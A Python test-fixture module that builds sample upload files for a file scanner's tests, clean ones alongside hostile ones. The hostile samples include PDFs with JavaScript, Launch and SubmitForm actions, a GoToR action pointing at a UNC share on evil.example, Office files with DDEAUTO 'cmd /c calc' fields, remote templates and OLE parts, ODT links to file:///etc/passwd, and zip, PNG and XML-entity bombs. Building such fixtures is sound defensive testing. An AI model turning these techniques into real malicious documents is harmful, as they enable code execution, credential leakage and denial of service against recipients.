"""Real files, clean and hostile, built in memory for the upload tests (imported as
`tests.core.upload_samples`): PDFs made with pypdf, images made with Pillow, office
packages made with zipfile."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

MIB = 1024 * 1024
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"


# -- PDF ------------------------------------------------------------------------------------


def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return writer


def pdf(pages: int = 1) -> bytes:
    """A clean, valid PDF with blank pages."""
    return _write(pdf_writer(pages))


def pdf_of_size(size: int) -> bytes:
    """A clean PDF of exactly `size` bytes (padded with an uncompressed stream)."""
    padding = max(size - len(pdf()) - 100, 0)
    for _ in range(5):
        writer = pdf_writer()
        stream = StreamObject()
        stream.set_data(b"0" * padding)
        writer._add_object(stream)
        data = _write(writer)
        if len(data) == size:
            return data
        padding += size - len(data)
    raise AssertionError("could not pad the PDF to the exact size")


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def pdf_with_open_action_javascript() -> bytes:
    writer = pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS=TextStringObject("app.alert('hallo');")
    )
    return _write(writer)


def pdf_with_names_javascript() -> bytes:
    """JavaScript in the catalog's /Names tree, run when the document opens."""
    writer = pdf_writer()
    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("begroting"), script])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _write(writer)


def pdf_with_page_aa_javascript_behind_a_reference() -> bytes:
    """A page's open action (/AA /O) whose /S is an indirect reference: the name only
    shows when the reference is followed."""
    writer = pdf_writer()
    kind = writer._add_object(NameObject("/JavaScript"))
    action = DictionaryObject(
        {NameObject("/S"): kind, NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    # /JS on its own also tells: rename it so only the referenced /S remains.
    del action[NameObject("/JS")]
    action[NameObject("/Script")] = TextStringObject("app.alert(1)")
    return _write(writer)


def pdf_with_orphan_javascript() -> bytes:
    """A JavaScript action in an object that nothing references."""
    writer = pdf_writer()
    writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    return _write(writer)


def pdf_with_launch() -> bytes:
    writer = pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/Launch", F=TextStringObject("C:\\Windows\\System32\\calc.exe")
    )
    return _write(writer)


def pdf_with_embedded_file() -> bytes:
    writer = pdf_writer()
    writer.add_attachment("begroting.xlsm", b"PK\x03\x04 not really")
    return _write(writer)


def pdf_with_file_attachment_annotation() -> bytes:
    writer = pdf_writer()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 30, 30)]),
            NameObject("/Contents"): TextStringObject("bijlage"),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


def pdf_with_xfa() -> bytes:
    writer = pdf_writer()
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): TextStringObject("<xdp:xdp><script>app.alert(1)</script>"),
        }
    )
    return _write(writer)


def encrypted_pdf() -> bytes:
    writer = pdf_writer()
    writer.encrypt("geheim", algorithm="RC4-128")
    return _write(writer)


def html_with_pdf_header() -> bytes:
    return b"%PDF-1.7\n" + SCRIPT


# -- Images ---------------------------------------------------------------------------------


def png(size=(40, 30), mode="RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, "teal" if mode != "P" else 3).save(buffer, "PNG")
    return buffer.getvalue()


def png_with_text_chunk() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def jpeg(size=(40, 30), *, gps: bool = False, orientation: int | None = None) -> bytes:
    image = Image.new("RGB", size, "orange")
    exif = Image.Exif()
    if gps:
        exif[0x8825] = {1: "N", 2: (52.0, 5.0, 0.0), 3: "E", 4: (4.0, 54.0, 0.0)}
        exif[0x010F] = "Telefoonmerk"  # Make
    if orientation:
        exif[0x0112] = orientation
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif.tobytes(), comment=b"geheim")
    return buffer.getvalue()


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG (with GPS in its EXIF) with a web page appended after its end."""
    return jpeg(gps=True) + SCRIPT


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG that claims to be 100,000 × 100,000 pixels (ten gigapixels)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1 bit grey
    rows = zlib.compress(b"\x00" * (1 + width // 8) * 8, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


# -- Office packages -----------------------------------------------------------------------


def _zip(entries: dict[str, bytes | str], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as package:
        for name, data in entries.items():
            if name == "mimetype":
                # Stored first, uncompressed, as ODF requires.
                package.writestr(zipfile.ZipInfo("mimetype"), data)
            else:
                package.writestr(name, data)
    return buffer.getvalue()


def _content_types(main: str, part: str, *extra: str) -> str:
    overrides = "".join(extra)
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/>{overrides}</Types>'
    )


def _rels(*relationships: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relationships)
        + "</Relationships>"
    )


HYPERLINK = (
    '<Relationship Id="rId9" TargetMode="External" Target="https://www.example.org/" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
)
REMOTE_TEMPLATE = (
    '<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate"/>'
)


def docx_entries(**extra) -> dict[str, bytes | str]:
    entries = {
        "[Content_Types].xml": _content_types(DOCX_MAIN, "word/document.xml"),
        "word/document.xml": "<w:document/>",
        "word/_rels/document.xml.rels": _rels(HYPERLINK),
    }
    entries.update(extra)
    return entries


def docx(**extra) -> bytes:
    """A clean DOCX (with an ordinary external hyperlink, which is allowed)."""
    return _zip(docx_entries(**extra))


def docx_with_macros() -> bytes:
    return docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})


def docm_renamed() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _content_types(DOCM_MAIN, "word/document.xml"),
            "word/document.xml": "<w:document/>",
        }
    )


def docx_with_activex() -> bytes:
    return docx(**{"word/activeX/activeX1.xml": "<ax:ocx/>"})


def docx_with_remote_template() -> bytes:
    return docx(**{"word/_rels/settings.xml.rels": _rels(REMOTE_TEMPLATE)})


def docx_with_many_entries(count: int) -> bytes:
    return docx(**{f"word/media/image{n}.xml": "x" for n in range(count)})


def docx_bomb(size: int = 200 * MIB) -> bytes:
    """A DOCX whose document part is `size` bytes of zeros, written as a stream: about
    a thousandth of that on disk."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _content_types(DOCX_MAIN, "word/document.xml"))
        with package.open("word/document.xml", "w", force_zip64=True) as entry:
            chunk = b"\x00" * MIB
            for _ in range(size // MIB):
                entry.write(chunk)
    return buffer.getvalue()


def docx_with_lying_header(real_size: int = 4 * MIB, claimed_size: int = 4000) -> bytes:
    """A DOCX whose document part inflates to `real_size` bytes while its headers claim
    `claimed_size`: within every limit on paper."""
    data = bytearray(_zip(docx_entries(**{"word/document.xml": b"\x00" * real_size})))
    name = b"word/document.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = 0
        while (at := data.find(signature, at)) != -1:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                data[at + size_at : at + size_at + 4] = struct.pack("<I", claimed_size)
            at += 4
    return bytes(data)


def xlsx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _content_types(XLSX_MAIN, "xl/workbook.xml"),
            "xl/workbook.xml": "<workbook/>",
        }
    )


def odf(mimetype: str, **extra) -> bytes:
    entries = {
        "mimetype": mimetype,
        "content.xml": "<office:document-content/>",
        "META-INF/manifest.xml": "<manifest:manifest/>",
    }
    entries.update(extra)
    return _zip(entries)


def odt(**extra) -> bytes:
    return odf("application/vnd.oasis.opendocument.text", **extra)


def ods() -> bytes:
    return odf("application/vnd.oasis.opendocument.spreadsheet")


def odt_with_basic_macros() -> bytes:
    return odt(**{"Basic/Standard/Module1.xml": "<script:module>Sub Main</script:module>"})


# -- Content that is loaded or run from elsewhere --------------------------------------------

OFFICE_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)
ODF_PICTURE = (
    '<draw:frame draw:name="Kaart"><draw:image xlink:href="Pictures/kaart.png" '
    'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
)
ODF_HYPERLINK = (
    '<text:a xlink:type="simple" xlink:href="https://www.example.org/plan">het plan</text:a>'
)


def odt_content(body: str) -> str:
    """An ODT `content.xml` with `body` in its text."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<office:document-content {OFFICE_NS} office:version="1.3">'
        f"<office:body><office:text><text:p>{body}</text:p></office:text></office:body>"
        "</office:document-content>"
    )


def odt_with_picture_and_hyperlink() -> bytes:
    """A clean ODT: an embedded picture (a part of the package), a hyperlink and a
    link to a bookmark, in the content and in the styles."""
    styles = (
        f'<office:document-styles {OFFICE_NS}><office:styles><style:style style:name="S">'
        '<style:graphic-properties><style:background-image xlink:href="Pictures/logo.png"/>'
        "</style:graphic-properties></style:style></office:styles></office:document-styles>"
    )
    return odt(
        **{
            "content.xml": odt_content(
                ODF_PICTURE
                + ODF_HYPERLINK
                + '<draw:a xlink:href="https://www.example.org/">'
                + '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></draw:a>'
                + '<text:a xlink:href="#Begroting">zie de begroting</text:a>'
            ),
            "styles.xml": styles,
            "Pictures/kaart.png": png(),
            "Pictures/logo.png": png(),
            "Object 1/content.xml": odt_content("Een ingevoegd object."),
        }
    )


def odt_with_link(element: str, *, part: str = "content.xml") -> bytes:
    """An ODT whose `part` holds `element` (a link to outside the package)."""
    if part == "content.xml":
        return odt(**{"content.xml": odt_content(element)})
    return odt(**{part: f"<office:document-styles {OFFICE_NS}>{element}</office:document-styles>"})


ODF_REMOTE_LINKS = {
    "remote_image": '<draw:frame><draw:image xlink:href="http://evil.example/p.png"/></draw:frame>',
    "unc_image": (
        '<draw:frame><draw:image xlink:href="\\\\evil.example\\share\\p.png"/></draw:frame>'
    ),
    "file_object": '<draw:frame><draw:object xlink:href="file:///etc/passwd"/></draw:frame>',
    "remote_object": (
        '<draw:frame><draw:object-ole xlink:href="https://evil.example/o.bin"/></draw:frame>'
    ),
    "parent_folder_image": '<draw:frame><draw:image xlink:href="../p.png"/></draw:frame>',
    "encoded_absolute_image": (
        '<draw:frame><draw:image xlink:href="%2F%2Fevil.example/p.png"/></draw:frame>'
    ),
    "section_source": (
        '<text:section text:name="S"><text:section-source '
        'xlink:href="https://evil.example/tekst.odt" xlink:type="simple"/></text:section>'
    ),
    # Another prefix for the xlink namespace: the attribute is known by its local name.
    "other_prefix": (
        '<draw:frame><draw:image xmlns:x="http://www.w3.org/1999/xlink" '
        'x:href="http://evil.example/p.png"/></draw:frame>'
    ),
}


def odt_with_styles_remote_image() -> bytes:
    """A page background fetched from a web server, in `styles.xml`."""
    return odt_with_link(
        '<office:styles><style:style style:name="S"><style:graphic-properties>'
        '<style:background-image xlink:href="https://evil.example/achtergrond.png"/>'
        "</style:graphic-properties></style:style></office:styles>",
        part="styles.xml",
    )


def odt_with_dde_source() -> bytes:
    return odt_with_link(
        '<text:section text:name="S"><office:dde-source office:dde-application="cmd" '
        'office:dde-topic="/c calc.exe" office:dde-item="A1"/></text:section>'
    )


def odt_with_dde_connection() -> bytes:
    return odt_with_link(
        '<text:dde-connection-decls><text:dde-connection-decl office:name="D" '
        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
        '</text:dde-connection-decls><text:dde-connection text:connection-name="D"/>'
    )


def odt_with_dtd_in_content() -> bytes:
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><office:document-content>'
        "&b;</office:document-content>"
    )
    return odt(**{"content.xml": bomb})


def ods_with_linked_sheet() -> bytes:
    content = (
        f"<office:document-content {OFFICE_NS}><office:body><office:spreadsheet>"
        '<table:table table:name="Blad1"><table:table-source '
        'xlink:href="https://evil.example/cijfers.ods" table:table-name="Blad1"/>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return odf("application/vnd.oasis.opendocument.spreadsheet", **{"content.xml": content})


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OLE_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"


def word_document(body: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f"<w:document {W_NS}><w:body>{body}</w:body></w:document>"
    )


def complex_field(*codes: str, result: str = "1") -> str:
    """A field the way Word writes one: begin, the code in one run or spread over
    several, separate, the result, end."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


PICTURE_RELATIONSHIP = (
    '<Relationship Id="rId5" Target="media/image1.png" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
)


def docx_with_fields_picture_and_hyperlink() -> bytes:
    """A clean DOCX: a page number field, a HYPERLINK field, a simple field, an
    embedded picture and an external hyperlink relationship."""
    body = (
        complex_field(" PAGE ")
        + complex_field(' HYPERLINK "https://www.example.org/" ', result="site")
        + '<w:p><w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>3</w:t></w:r></w:fldSimple></w:p>'
        + "<w:p><w:r><w:t>DDEAUTO staat hier als gewone tekst.</w:t></w:r></w:p>"
    )
    return docx(
        **{
            "word/document.xml": word_document(body),
            "word/_rels/document.xml.rels": _rels(HYPERLINK, PICTURE_RELATIONSHIP),
            "word/media/image1.png": png(),
        }
    )


def docx_with_ddeauto_field() -> bytes:
    return docx(
        **{
            "word/document.xml": word_document(
                complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')
            )
        }
    )


def docx_with_split_dde_field() -> bytes:
    """The field code spread over runs, in lower case, as Word accepts it."""
    return docx(
        **{"word/document.xml": word_document(complex_field(" dd", "e ", 'cmd "/c calc" '))}
    )


def docx_with_dde_simple_field() -> bytes:
    return docx(
        **{
            "word/document.xml": word_document(
                '<w:p><w:fldSimple w:instr="DDE cmd &quot;/c calc&quot; x">'
                "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
            )
        }
    )


def docx_with_dde_in_footer() -> bytes:
    field = complex_field(' DDEAUTO cmd "/c calc" ')
    footer = f"<w:ftr {W_NS}>{field}</w:ftr>"
    return docx(**{"word/footer1.xml": footer})


def docx_with_computed_field_name() -> bytes:
    """A field whose name is the result of a nested field (QUOTE spelling "DDE")."""
    nested = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> </w:instrText></w:r>{nested}'
        '<w:r><w:instrText> cmd "/c calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx(**{"word/document.xml": word_document(body)})


def docx_with_ole_object() -> bytes:
    """An OLE object the way Word embeds one: the part, its content type."""
    return docx(
        **{
            "[Content_Types].xml": _content_types(
                DOCX_MAIN,
                "word/document.xml",
                f'<Default Extension="bin" ContentType="{OLE_CONTENT_TYPE}"/>',
            ),
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 package",
        }
    )


def docx_with_ole_part_only() -> bytes:
    """An OLE part under another name, without its content type."""
    return docx(**{"word/embeddings/Pakket.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})


def docx_with_ole_content_type_only() -> bytes:
    return docx(
        **{
            "[Content_Types].xml": _content_types(
                DOCX_MAIN,
                "word/document.xml",
                f'<Override PartName="/word/objects/o1.dat" ContentType="{OLE_CONTENT_TYPE}"/>',
            ),
            "word/objects/o1.dat": b"\xd0\xcf\x11\xe0",
        }
    )


def xlsx_with(**extra) -> bytes:
    entries = {
        "[Content_Types].xml": _content_types(XLSX_MAIN, "xl/workbook.xml"),
        "xl/workbook.xml": "<workbook/>",
    }
    entries.update(extra)
    return _zip(entries)


def xlsx_with_ole_object() -> bytes:
    return xlsx_with(**{"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})


def xlsx_with_dde_link() -> bytes:
    link = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
        '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    return xlsx_with(**{"xl/externalLinks/externalLink1.xml": link})


def _pdf_with_link_annotation(action: DictionaryObject) -> bytes:
    writer = pdf_writer()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 200, 30)]),
            NameObject("/A"): action,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


def pdf_with_uri_link() -> bytes:
    """A clean PDF with a web link (clicked, not run)."""
    return _pdf_with_link_annotation(_action("/URI", URI=TextStringObject("https://example.org/")))


def pdf_with_open_action_gotor_unc() -> bytes:
    """On opening, go to a PDF on a network share (which hands over the reader's
    Windows credentials to that server)."""
    writer = pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/GoToR",
        F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
        D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
    )
    return _write(writer)


def pdf_with_gotor_link() -> bytes:
    return _pdf_with_link_annotation(
        _action("/GoToR", F=TextStringObject("//evil.example/x.pdf"), D=TextStringObject("a"))
    )


def pdf_with_gotoe_link() -> bytes:
    return _pdf_with_link_annotation(
        _action("/GoToE", F=TextStringObject("ander.pdf"), D=TextStringObject("a"))
    )


def pdf_with_page_aa_submit_form() -> bytes:
    """On closing the page, the form's fields are posted to a web server."""
    writer = pdf_writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/C"): _action(
                "/SubmitForm", F=TextStringObject("https://evil.example/verzamel")
            )
        }
    )
    return _write(writer)


def pdf_with_outline_import_data() -> bytes:
    """An outline item (bookmark) that imports form data from another file."""
    writer = pdf_writer()
    item = writer.add_outline_item(title="Hoofdstuk 1", page_number=0)
    item.get_object()[NameObject("/A")] = _action(
        "/ImportData", F=TextStringObject("\\\\evil.example\\share\\data.fdf")
    )
    return _write(writer)


def pdf_with_launch_in_annotation() -> bytes:
    return _pdf_with_link_annotation(_action("/Launch", F=TextStringObject("calc.exe")))
